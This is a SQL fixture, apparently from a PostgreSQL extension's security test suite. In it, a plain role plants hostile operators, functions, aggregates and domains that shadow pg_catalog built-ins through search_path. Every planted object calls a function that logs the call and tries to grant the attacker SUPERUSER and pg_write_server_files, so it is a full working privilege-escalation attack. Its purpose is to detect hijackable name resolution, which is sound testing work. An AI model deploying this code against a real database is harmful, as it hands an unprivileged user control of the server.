-- security_hijack.sql: the hostile objects of test/suites/security_hijack.sh,
-- planted by the plain role mallory in her own schema evil (run as mallory,
-- with search_path = pg_catalog so that what is planted here resolves to the
-- real built-ins).  Every planted object that the extension could resolve
-- instead of a built-in calls evil.pwn(), which
--   - records current_user / session_user / backend type in evil.log (INSERT:
--     lost when the hijacked call rolls back),
--   - and when it runs with anyone's rights but mallory's: counts the hit in
--     the sequence evil.foreign_hits and raises a WARNING "sft-hijack: ..."
--     (neither is rolled back: the suite sees hijacks in calls that failed),
--     then tries ALTER ROLE mallory SUPERUSER ... and GRANT
--     pg_write_server_files TO mallory, each in an exception block so that
--     the attempt never makes the hijacked statement fail.
-- Each planted object forwards to the pg_catalog original, so calls behave
-- as they would without it.

CREATE TABLE evil.log (
    id bigint GENERATED ALWAYS AS IDENTITY,
    at timestamptz NOT NULL DEFAULT pg_catalog.clock_timestamp(),
    fn text,
    cur name,
    sess name,
    btype text
);
CREATE SEQUENCE evil.foreign_hits;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT INSERT ON evil.log TO PUBLIC;
GRANT USAGE ON SEQUENCE evil.foreign_hits, evil.log_id_seq TO PUBLIC;

CREATE FUNCTION evil.pwn(tag text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
DECLARE
    bt text;
    lt text;
BEGIN
    SELECT a.backend_type INTO bt FROM pg_catalog.pg_stat_activity a
     WHERE a.pid OPERATOR(pg_catalog.=) pg_catalog.pg_backend_pid();
    BEGIN
        INSERT INTO evil.log (fn, cur, sess, btype) VALUES (tag, current_user, session_user, bt);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    IF current_user OPERATOR(pg_catalog.<>) 'mallory'::pg_catalog.name THEN
        PERFORM pg_catalog.nextval('evil.foreign_hits'::pg_catalog.regclass);
        RAISE WARNING 'sft-hijack: % ran as % (session user %, %)', tag, current_user, session_user, bt;
        -- never wait for another session's lock on mallory's pg_authid row
        -- (a worker would wait for the backend waiting for it)
        lt := pg_catalog.current_setting('lock_timeout');
        PERFORM pg_catalog.set_config('lock_timeout', '100ms', true);
        BEGIN
            EXECUTE 'ALTER ROLE mallory SUPERUSER CREATEROLE CREATEDB BYPASSRLS REPLICATION';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
            EXECUTE 'GRANT pg_write_server_files TO mallory';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        PERFORM pg_catalog.set_config('lock_timeout', lt, true);
    END IF;
END
$$;

-- ---------------------------------------------------------------------------
-- Operators: for every type a catalog query may compare, and the usual
-- arithmetic, text and jsonb operators.  Same argument types as the built-in,
-- earlier in search_path: the planted one wins.
-- ---------------------------------------------------------------------------
CREATE FUNCTION evil.plant_op(op text, l text, r text, res text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog AS $plant$
DECLARE
    f text := 'op_' || pg_catalog.md5(op || '/' || l || '/' || r);
BEGIN
    EXECUTE pg_catalog.format(
        $f$CREATE FUNCTION evil.%I(%s, %s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
           BEGIN PERFORM evil.pwn(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END $b$$f$,
        f, l, r, res, pg_catalog.format('operator %s (%s, %s)', op, l, r), op);
    EXECUTE pg_catalog.format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.%I)',
                              op, l, r, f);
END
$plant$;

DO $do$
DECLARE
    t text;
    op text;
    pair text[];
BEGIN
    FOREACH t IN ARRAY ARRAY['bigint', 'integer', 'smallint', 'text', 'oid', 'name', 'regrole',
                             'regclass', 'regtype', 'regnamespace', 'jsonb', 'timestamptz', 'boolean',
                             'double precision', 'real', 'numeric', 'interval', 'bytea', '"char"',
                             'bigint[]', 'integer[]', 'text[]', 'oid[]'] LOOP
        FOREACH op IN ARRAY ARRAY['=', '<>', '<', '>', '<=', '>='] LOOP
            PERFORM evil.plant_op(op, t, t, 'boolean');
        END LOOP;
    END LOOP;
    -- cross-type comparisons the built-ins have
    FOREACH pair SLICE 1 IN ARRAY ARRAY[['bigint', 'integer'], ['integer', 'bigint'],
                                        ['bigint', 'smallint'], ['smallint', 'bigint'],
                                        ['integer', 'smallint'], ['smallint', 'integer'],
                                        ['text', 'name'], ['name', 'text'],
                                        ['double precision', 'real'], ['real', 'double precision']] LOOP
        FOREACH op IN ARRAY ARRAY['=', '<>', '<', '>', '<=', '>='] LOOP
            PERFORM evil.plant_op(op, pair[1], pair[2], 'boolean');
        END LOOP;
    END LOOP;
    -- arithmetic
    FOREACH t IN ARRAY ARRAY['bigint', 'integer', 'double precision', 'numeric'] LOOP
        FOREACH op IN ARRAY ARRAY['+', '-', '*', '/'] LOOP
            PERFORM evil.plant_op(op, t, t, t);
        END LOOP;
    END LOOP;
    FOREACH op IN ARRAY ARRAY['+', '-', '*', '/'] LOOP
        PERFORM evil.plant_op(op, 'bigint', 'integer', 'bigint');
        PERFORM evil.plant_op(op, 'integer', 'bigint', 'bigint');
    END LOOP;
    PERFORM evil.plant_op('+', 'timestamptz', 'interval', 'timestamptz');
    PERFORM evil.plant_op('-', 'timestamptz', 'interval', 'timestamptz');
    PERFORM evil.plant_op('-', 'timestamptz', 'timestamptz', 'interval');
    -- text, arrays, jsonb
    PERFORM evil.plant_op('||', 'text', 'text', 'text');
    PERFORM evil.plant_op('||', 'text[]', 'text', 'text[]');
    PERFORM evil.plant_op('||', 'oid[]', 'oid', 'oid[]');
    PERFORM evil.plant_op('||', 'jsonb', 'jsonb', 'jsonb');
    PERFORM evil.plant_op('~~', 'text', 'text', 'boolean');
    PERFORM evil.plant_op('!~~', 'text', 'text', 'boolean');
    PERFORM evil.plant_op('~~*', 'text', 'text', 'boolean');
    PERFORM evil.plant_op('~', 'text', 'text', 'boolean');
    PERFORM evil.plant_op('->', 'jsonb', 'text', 'jsonb');
    PERFORM evil.plant_op('->', 'jsonb', 'integer', 'jsonb');
    PERFORM evil.plant_op('->>', 'jsonb', 'text', 'text');
    PERFORM evil.plant_op('->>', 'jsonb', 'integer', 'text');
    PERFORM evil.plant_op('#>', 'jsonb', 'text[]', 'jsonb');
    PERFORM evil.plant_op('#>>', 'jsonb', 'text[]', 'text');
    PERFORM evil.plant_op('@>', 'jsonb', 'jsonb', 'boolean');
    PERFORM evil.plant_op('<@', 'jsonb', 'jsonb', 'boolean');
    PERFORM evil.plant_op('?', 'jsonb', 'text', 'boolean');
    PERFORM evil.plant_op('-', 'jsonb', 'text', 'jsonb');
    PERFORM evil.plant_op('@>', 'oid[]', 'oid[]', 'boolean');
    PERFORM evil.plant_op('&&', 'oid[]', 'oid[]', 'boolean');
END
$do$;

-- ---------------------------------------------------------------------------
-- Functions shadowing pg_catalog names the code might call, with the
-- built-in's exact signature (defaults and VARIADIC too), so that an
-- unqualified call finds the planted one first.  Set-returning functions
-- and those over pseudo-types plpgsql cannot take are left out; for the
-- VARIADIC "any" helpers (format, concat, jsonb_build_object ...) concrete
-- signatures are planted below instead, which beat "any" in resolution.
-- ---------------------------------------------------------------------------
CREATE TABLE evil.planted (what text, ok boolean, error text);
GRANT SELECT ON evil.planted TO PUBLIC;

DO $do$
DECLARE
    p record;
    body text;
    args text;
    fwd text;
    sig text;
BEGIN
    FOR p IN
        SELECT f.oid, f.proname, f.pronargs, f.provariadic, f.prorettype,
               f.proargtypes::pg_catalog.oid[] AS argtypes,
               pg_catalog.format_type(f.prorettype, NULL) AS rettype
          FROM pg_catalog.pg_proc f
         WHERE f.pronamespace OPERATOR(pg_catalog.=) 'pg_catalog'::pg_catalog.regnamespace
           AND f.prokind OPERATOR(pg_catalog.=) 'f' AND NOT f.proretset
           AND f.proname OPERATOR(pg_catalog.=) ANY (ARRAY[
               'lower', 'upper', 'initcap', 'now', 'clock_timestamp', 'statement_timestamp',
               'transaction_timestamp', 'timeofday', 'current_setting', 'set_config',
               'current_schema', 'current_schemas', 'format', 'quote_ident', 'quote_literal',
               'quote_nullable', 'textcat', 'texteq', 'textne', 'int8eq', 'int8ne', 'int4eq',
               'int48eq', 'int84eq', 'nameeq', 'oideq', 'booleq', 'jsonb_eq', 'length', 'octet_length',
               'char_length', 'concat', 'concat_ws', 'substr', 'substring', 'replace', 'btrim', 'ltrim',
               'rtrim', 'left', 'right', 'strpos', 'position', 'regexp_replace', 'regexp_match',
               'split_part', 'starts_with', 'to_char', 'to_number', 'to_jsonb', 'to_json',
               'jsonb_build_object', 'jsonb_build_array', 'jsonb_set', 'jsonb_insert', 'jsonb_typeof',
               'jsonb_array_length', 'jsonb_extract_path', 'jsonb_extract_path_text',
               'jsonb_object_field', 'jsonb_object_field_text', 'jsonb_strip_nulls', 'jsonb_pretty',
               'array_length', 'array_upper', 'array_lower', 'cardinality', 'array_append',
               'array_cat', 'array_to_string', 'string_to_array', 'array_position',
               'lo_create', 'lo_creat', 'lo_unlink', 'lo_open', 'lo_close', 'loread', 'lowrite',
               'lo_get', 'lo_put', 'lo_from_bytea', 'lo_import', 'lo_export', 'lo_truncate',
               'lo_truncate64', 'lo_lseek', 'lo_lseek64', 'lo_tell', 'lo_tell64',
               'pg_advisory_lock', 'pg_advisory_unlock', 'pg_advisory_xact_lock',
               'pg_try_advisory_lock', 'pg_try_advisory_xact_lock',
               'has_table_privilege', 'has_schema_privilege', 'has_function_privilege',
               'has_column_privilege', 'pg_has_role', 'row_security_active',
               'to_regrole', 'to_regclass', 'to_regproc', 'to_regprocedure', 'to_regnamespace',
               'to_regtype', 'pg_get_userbyid', 'md5', 'sha256', 'random', 'setseed', 'abs', 'round',
               'floor', 'ceil', 'ceiling', 'trunc', 'sqrt', 'exp', 'ln', 'log', 'power', 'pow',
               'mod', 'div', 'sign', 'pg_backend_pid', 'txid_current', 'pg_current_xact_id',
               'int8', 'int4', 'int2', 'float8', 'float4', 'numeric', 'text', 'name', 'oid',
               'bool', 'date_part', 'date_trunc', 'extract', 'age', 'isfinite', 'justify_interval',
               'make_interval', 'to_timestamp', 'pg_sleep', 'encode', 'decode', 'convert_from',
               'convert_to', 'pg_column_size', 'pg_typeof', 'nextval', 'currval', 'setval',
               'gen_random_uuid', 'pg_notify', 'pg_stat_get_activity', 'inet_client_addr',
               'pg_relation_size', 'pg_total_relation_size', 'pg_read_file',
               'pg_read_binary_file', 'pg_stat_file', 'pg_ls_dir', 'pg_file_write',
               'current_database', 'version', 'obj_description', 'col_description',
               'pg_get_expr', 'format_type', 'regclassin', 'regrolein', 'textin', 'int8in',
               'jsonb_in', 'array_in', 'pg_input_is_valid', 'num_nulls', 'num_nonnulls'])
         ORDER BY f.oid
    LOOP
        -- pseudo-types plpgsql cannot declare (internal, cstring, "any", ...)
        CONTINUE WHEN EXISTS (
            SELECT FROM pg_catalog.unnest(ARRAY[p.prorettype] || p.argtypes) t(oid)
              JOIN pg_catalog.pg_type ty ON ty.oid = t.oid
             WHERE ty.typtype = 'p'
               AND ty.typname <> ALL (ARRAY['anyelement', 'anyarray', 'anynonarray',
                                            'anycompatible', 'anycompatiblearray', 'void']));
        SELECT pg_catalog.string_agg(CASE WHEN p.provariadic OPERATOR(pg_catalog.<>) 0
                                           AND i OPERATOR(pg_catalog.=) p.pronargs
                                          THEN 'VARIADIC ' ELSE '' END OPERATOR(pg_catalog.||) '$' OPERATOR(pg_catalog.||) i,
                                     ', ' ORDER BY i)
          INTO fwd
          FROM pg_catalog.generate_series(1, p.pronargs::integer) i;
        fwd := coalesce(fwd, '');
        sig := pg_catalog.format('function %s(%s)', p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid));
        IF p.rettype OPERATOR(pg_catalog.=) 'void' THEN
            body := pg_catalog.format('BEGIN PERFORM evil.pwn(%L); PERFORM pg_catalog.%I(%s); END', sig, p.proname, fwd);
        ELSE
            body := pg_catalog.format('BEGIN PERFORM evil.pwn(%L); RETURN pg_catalog.%I(%s); END', sig, p.proname, fwd);
        END IF;
        -- with the built-in's own argument list first (names, defaults), else types only
        FOREACH args IN ARRAY ARRAY[pg_catalog.pg_get_function_arguments(p.oid),
            (SELECT coalesce(string_agg(CASE WHEN p.provariadic <> 0 AND a.i = p.pronargs
                                             THEN 'VARIADIC ' ELSE '' END || format_type(a.t, NULL),
                                        ', ' ORDER BY a.i), '')
               FROM unnest(p.argtypes) WITH ORDINALITY a(t, i))] LOOP
            BEGIN
                EXECUTE pg_catalog.format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql '
                                          'SET search_path = pg_catalog AS %L',
                                          p.proname, args, p.rettype, body);
                INSERT INTO evil.planted VALUES (sig, true, NULL);
                EXIT;
            EXCEPTION WHEN OTHERS THEN
                INSERT INTO evil.planted VALUES (sig, false, SQLERRM);
            END;
        END LOOP;
    END LOOP;
END
$do$;

-- concrete signatures for the VARIADIC "any" helpers
DO $do$
DECLARE
    s text[];
    n integer := 0;
BEGIN
    FOREACH s SLICE 1 IN ARRAY ARRAY[
        ['format', 'text, text', 'text'], ['format', 'text, bigint', 'text'],
        ['format', 'text, text, text', 'text'], ['format', 'text, bigint, text', 'text'],
        ['concat', 'text, text', 'text'], ['concat', 'text, text, text', 'text'],
        ['concat_ws', 'text, text, text', 'text'],
        ['jsonb_build_object', 'text, text', 'jsonb'], ['jsonb_build_object', 'text, bigint', 'jsonb'],
        ['jsonb_build_object', 'text, integer', 'jsonb'], ['jsonb_build_object', 'text, jsonb', 'jsonb'],
        ['jsonb_build_object', 'text, double precision', 'jsonb'], ['jsonb_build_object', 'text, boolean', 'jsonb'],
        ['jsonb_build_object', 'text, text, text, text', 'jsonb'],
        ['jsonb_build_object', 'text, text, text, jsonb', 'jsonb'],
        ['jsonb_build_array', 'text', 'jsonb'], ['jsonb_build_array', 'jsonb', 'jsonb'],
        ['jsonb_build_array', 'jsonb, jsonb', 'jsonb'],
        ['json_build_object', 'text, text', 'json'], ['to_jsonb', 'text', 'jsonb'],
        ['num_nulls', 'text', 'integer'], ['coalesce_text', 'text, text', 'text']] LOOP
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS %L',
            s[1], s[2], s[3],
            pg_catalog.format('BEGIN PERFORM evil.pwn(%L); RETURN pg_catalog.%I(%s); END',
                              pg_catalog.format('function %s(%s)', s[1], s[2]),
                              CASE s[1] WHEN 'coalesce_text' THEN 'concat' ELSE s[1] END,
                              (SELECT pg_catalog.string_agg('$' OPERATOR(pg_catalog.||) i, ', ')
                                 FROM pg_catalog.generate_series(1,
                                      pg_catalog.array_length(pg_catalog.string_to_array(s[2], ','), 1)) i)));
        INSERT INTO evil.planted VALUES (pg_catalog.format('function %s(%s)', s[1], s[2]), true, NULL);
    END LOOP;
END
$do$;

-- ---------------------------------------------------------------------------
-- Aggregates with the built-ins' signatures: count(*), max, min, sum,
-- array_agg, string_agg, bool_and, bool_or.
-- ---------------------------------------------------------------------------
CREATE FUNCTION evil.agg_count(bigint) RETURNS bigint LANGUAGE plpgsql SET search_path = pg_catalog AS
$$BEGIN PERFORM evil.pwn('aggregate count(*)'); RETURN $1 OPERATOR(pg_catalog.+) 1; END$$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.agg_count, STYPE = bigint, INITCOND = '0');

DO $do$
DECLARE
    t text;
    f text;
BEGIN
    FOREACH t IN ARRAY ARRAY['bigint', 'integer', 'double precision', 'timestamptz', 'text', 'oid'] LOOP
        f := 'agg_max_' || pg_catalog.md5(t);
        EXECUTE pg_catalog.format($f$CREATE FUNCTION evil.%I(%s, %s) RETURNS %s LANGUAGE plpgsql STRICT
            SET search_path = pg_catalog AS $b$BEGIN PERFORM evil.pwn(%L);
            RETURN CASE WHEN $2 OPERATOR(pg_catalog.>) $1 THEN $2 ELSE $1 END; END$b$$f$,
            f, t, t, t, pg_catalog.format('aggregate max(%s)', t));
        EXECUTE pg_catalog.format('CREATE AGGREGATE evil.max(%s) (SFUNC = evil.%I, STYPE = %s)', t, f, t);
        f := 'agg_min_' || pg_catalog.md5(t);
        EXECUTE pg_catalog.format($f$CREATE FUNCTION evil.%I(%s, %s) RETURNS %s LANGUAGE plpgsql STRICT
            SET search_path = pg_catalog AS $b$BEGIN PERFORM evil.pwn(%L);
            RETURN CASE WHEN $2 OPERATOR(pg_catalog.<) $1 THEN $2 ELSE $1 END; END$b$$f$,
            f, t, t, t, pg_catalog.format('aggregate min(%s)', t));
        EXECUTE pg_catalog.format('CREATE AGGREGATE evil.min(%s) (SFUNC = evil.%I, STYPE = %s)', t, f, t);
        f := 'agg_array_' || pg_catalog.md5(t);
        EXECUTE pg_catalog.format($f$CREATE FUNCTION evil.%I(%s[], %s) RETURNS %s[] LANGUAGE plpgsql
            SET search_path = pg_catalog AS $b$BEGIN PERFORM evil.pwn(%L);
            RETURN pg_catalog.array_append($1, $2); END$b$$f$,
            f, t, t, t, pg_catalog.format('aggregate array_agg(%s)', t));
        EXECUTE pg_catalog.format('CREATE AGGREGATE evil.array_agg(%s) (SFUNC = evil.%I, STYPE = %s[], INITCOND = ''{}'')',
                                  t, f, t);
    END LOOP;
    FOREACH t IN ARRAY ARRAY['bigint', 'integer', 'double precision'] LOOP
        f := 'agg_sum_' || pg_catalog.md5(t);
        EXECUTE pg_catalog.format($f$CREATE FUNCTION evil.%I(%s, %s) RETURNS %s LANGUAGE plpgsql STRICT
            SET search_path = pg_catalog AS $b$BEGIN PERFORM evil.pwn(%L);
            RETURN $1 OPERATOR(pg_catalog.+) $2; END$b$$f$,
            f, t, t, t, pg_catalog.format('aggregate sum(%s)', t));
        EXECUTE pg_catalog.format('CREATE AGGREGATE evil.sum(%s) (SFUNC = evil.%I, STYPE = %s)', t, f, t);
    END LOOP;
END
$do$;
CREATE FUNCTION evil.agg_string(text, text, text) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog AS
$$BEGIN PERFORM evil.pwn('aggregate string_agg(text, text)');
RETURN CASE WHEN $2 IS NULL THEN $1 WHEN $1 IS NULL THEN $2 ELSE pg_catalog.concat($1, $3, $2) END; END$$;
CREATE AGGREGATE evil.string_agg(text, text) (SFUNC = evil.agg_string, STYPE = text);
CREATE FUNCTION evil.agg_and(boolean, boolean) RETURNS boolean LANGUAGE plpgsql STRICT SET search_path = pg_catalog AS
$$BEGIN PERFORM evil.pwn('aggregate bool_and(boolean)'); RETURN $1 AND $2; END$$;
CREATE AGGREGATE evil.bool_and(boolean) (SFUNC = evil.agg_and, STYPE = boolean);
CREATE FUNCTION evil.agg_or(boolean, boolean) RETURNS boolean LANGUAGE plpgsql STRICT SET search_path = pg_catalog AS
$$BEGIN PERFORM evil.pwn('aggregate bool_or(boolean)'); RETURN $1 OR $2; END$$;
CREATE AGGREGATE evil.bool_or(boolean) (SFUNC = evil.agg_or, STYPE = boolean);

-- ---------------------------------------------------------------------------
-- Casts.  CREATE CAST between built-in types needs to own one of them, which
-- a plain role cannot: tried below and recorded in evil.planted.  What a
-- plain role can do: function-call casts (text(x), int8(x), oid(x) ... are
-- planted above) and TYPE NAMES: an unqualified "::regrole", "::jsonb",
-- "::oid", "::text", "::timestamptz" ... resolves to a domain of that name in
-- evil, whose CHECK runs a planted function.
-- ---------------------------------------------------------------------------
CREATE FUNCTION evil.cast_text(bigint) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog AS
$$BEGIN PERFORM evil.pwn('cast bigint AS text'); RETURN $1::pg_catalog.text; END$$;
DO $do$
BEGIN
    CREATE CAST (bigint AS text) WITH FUNCTION evil.cast_text(bigint);
    INSERT INTO evil.planted VALUES ('cast bigint AS text', true, NULL);
EXCEPTION WHEN OTHERS THEN
    INSERT INTO evil.planted VALUES ('cast bigint AS text', false, SQLERRM);
END
$do$;

CREATE FUNCTION evil.domain_check(anyelement, text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS
$$BEGIN PERFORM evil.pwn('domain ' OPERATOR(pg_catalog.||) $2); RETURN true; END$$;
DO $do$
DECLARE
    t text;
BEGIN
    FOREACH t IN ARRAY ARRAY['regrole', 'regclass', 'regtype', 'regnamespace', 'regprocedure', 'jsonb',
                             'json', 'oid', 'text', 'name', 'int8', 'int4', 'int2', 'float8', 'float4',
                             'bool', 'timestamptz', 'interval', 'bytea', 'numeric', 'varchar'] LOOP
        EXECUTE pg_catalog.format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.domain_check(VALUE, %L))',
                                  t, t, 'evil.' || t);
        INSERT INTO evil.planted VALUES ('domain evil.' || t, true, NULL);
    END LOOP;
END
$do$;
